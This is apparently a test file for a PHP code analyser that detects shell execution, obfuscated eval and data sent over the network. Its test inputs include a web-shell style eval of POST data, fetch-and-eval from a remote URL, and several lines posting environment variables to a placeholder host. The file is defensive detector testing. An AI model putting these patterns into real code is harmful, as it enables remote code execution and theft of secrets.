import fc from "fast-check"
import { beforeAll, describe, expect, it } from "vitest"
import { readPackaged } from "../../io/packaged.ts"
import type { Analyser } from "../language.ts"
import { type Shown, shownBy } from "../shown-fixture.ts"
import { php } from "./index.ts"

let analyser: Analyser
beforeAll(async () => {
  analyser = await php.load(readPackaged)
})
const show = (text: string): Shown => shownBy(analyser, text, { path: "web/index.php", files: [] })
const acts = (body: string): readonly string[] => show(`<?php\n${body}`).acts

describe("php", () => {
  it("claims files by extension and first line", () => {
    expect([php.claims("a/b.php", ""), php.claims("bin/x", "#!/usr/bin/env php"), php.claims("a.py", "")]).toEqual([true, true, false])
  })

  it.each([
    ["system('touch ' . \"MARKER\");", ['2 runs text shell "touch MARKER"']],
    ['$x = "id"; `$x -u`;', ['2 runs text shell "id -u"']],
    ["$f = 'sys' . 'tem'; $f('id');", ['2 runs text shell "id"']],
    ["call_user_func_array('ExEc', ['id']);", ['2 runs text shell "id"']],
    ["\\system('id');", ['2 runs text shell "id"']],
    ["function f($a, $b = 1) { return shell_exec($a); }\nf('id');", ['2 runs text shell "id"']],
    [
      "class A { private $c; function __construct($c) { $this->c = $c; } function m() { system($this->c); } }\n(new A('id'))->m();",
      ['2 runs text shell "id"'],
    ],
    ["$g = function ($c) { system($c); }; $g('id');", ['2 runs text shell "id"']],
    ["require __DIR__ . '/x.php';", ['2 runs text php file<"web/x.php">']],
    ["if ($a) { unlink('x'); } else { copy('a', 'b'); }", ['2 deletes "x"', '2 reads "a"', '2 writes "b" file<"a">']],
    ["file_put_contents('x', 'y');", ['2 writes "x" "y"']],
    ["$s = <<<E\nid\nE;\nsystem($s);", ['5 runs text shell "id"']],
    ["@eval($_POST['a']);", ["2 runs text php fetched<?>"]],
  ])("acts: %s", (body, expected) => expect(acts(body)).toEqual(expected))

  it.each([
    ["eval(base64_decode('MTs='));", '2 runs text php decode:base64_decode()("MTs=")'],
    ["eval(str_rot13('rpub 1;'));", '2 runs text php decode:str_rot13()("rpub 1;")'],
    ["eval(strrev(';1'));", '2 runs text php slice:strrev()(";1")'],
    ["eval(implode('', array_map('chr', [49, 43, 49, 59])));", '2 runs text php decode:implode()("1+1;")'],
    ["eval(hex2bin('313b'));", '2 runs text php decode:hex2bin()("313b")'],
    ["eval(str_replace('X', '', '1X;'));", '2 runs text php edit:str_replace()("1X;")'],
    ['eval("\\x31\\073");', '2 runs text php "1;"'],
    ["$x = '1'; $x .= ';'; eval($x);", '2 runs text php "1;"'],
  ])("constants that are run: %s", (body, expected) => expect(acts(body)).toEqual([expected]))

  it("looks into what was hidden", () => {
    const hidden = Buffer.from("unlink('MARKER');").toString("base64")
    expect(acts(`eval(base64_decode('${hidden}'));`)).toContain('2 deletes "MARKER"')
  })

  it("follows content of files and of the network to where it runs", () => {
    expect(acts("$d = file_get_contents(__DIR__ . '/t/a.bin'); eval(gzinflate($d));")).toEqual([
      '2 reads "web/t/a.bin"',
      '2 runs text php decompress:gzinflate()(file<"web/t/a.bin">)',
    ])
    expect(acts("$c = curl_init('https://x.example.org/'); eval(curl_exec($c));")).toEqual([
      '2 connects "https://x.example.org/"',
      '2 runs text php fetched<"https://x.example.org/">',
    ])
  })

  it("says which lines are no PHP, and goes on", () => {
    const { acts: found, blind } = show("<?php\n$x = )) ]];\nsystem('id');\n")
    expect(blind.some((line) => /syntax error/.test(line))).toBe(true)
    expect(found).toEqual(['3 runs text shell "id"'])
  })

  it("never throws, and stays in the text", () => {
    const word = fc.constantFrom(
      "<?php",
      "?>",
      "system(",
      "'a'",
      "\n",
      "function f(",
      "class A {",
      "$x =",
      "(",
      ")",
      "[",
      "]",
      "{",
      "}",
      "<<<E",
      "E;",
      '"$a[0]"',
      "`",
      "eval",
      ".",
      "->",
      "::",
      "foreach (",
      "as",
      "=>",
      ";",
      "new",
      "\u00e9",
      "\0",
    )
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: "binary-ascii" }),
          fc.array(word).map((words) => words.join(" ")),
        ),
        (text) => {
          const lines = text.split("\n").length
          for (const {
            lines: [first, last],
          } of show(text).places)
            expect(first >= 1 && first <= last && last <= lines).toBe(true)
        },
      ),
      { numRuns: 300 },
    )
    for (const text of ["(".repeat(30_000), `${"f(".repeat(5000)}1${")".repeat(5000)}`, `$x = ${"'a' . ".repeat(20_000)}'b';`])
      expect(() => show(`<?php ${text}`)).not.toThrow()
  })

  it("sees the same whatever comments stand between", () => {
    const program = ["<?php", "$x = 'id';", "function f($a) {", "  system($a);", "}", "f($x);"]
    fc.assert(
      fc.property(
        fc.array(
          fc.stringMatching(/^[ -~]*$/).filter((one) => !one.includes("?>")),
          { minLength: 6, maxLength: 6 },
        ),
        (comments) => {
          const commented = program.map((line, index) => (index === 0 ? line : `${line} # ${comments[index]}`)).join("\n")
          expect(show(commented).acts).toEqual(show(program.join("\n")).acts)
        },
      ),
    )
  })

  it.each([
    '$c = curl_init("https://h.example.org/"); curl_setopt($c, CURLOPT_POSTFIELDS, getenv()); curl_exec($c);',
    '$c = curl_init(); curl_setopt_array($c, [CURLOPT_URL => "https://h.example.org/", CURLOPT_POSTFIELDS => $_ENV]); curl_exec($c);',
    '$f = fsockopen("https://h.example.org/", 80); fwrite($f, json_encode($_ENV));',
    'mail("https://h.example.org/", "a", print_r($_ENV, true));',
    'file_get_contents("https://h.example.org/", false, stream_context_create(["http" => ["method" => "POST", "content" => $_ENV]]));',
  ])("knows what it sends: %s", (text) =>
    expect(acts(text).filter((act) => act.includes(" sends "))).toEqual([
      expect.stringMatching(/connects "https:\/\/h\.example\.org\/" sends .*\$\*/),
    ]),
  )
})
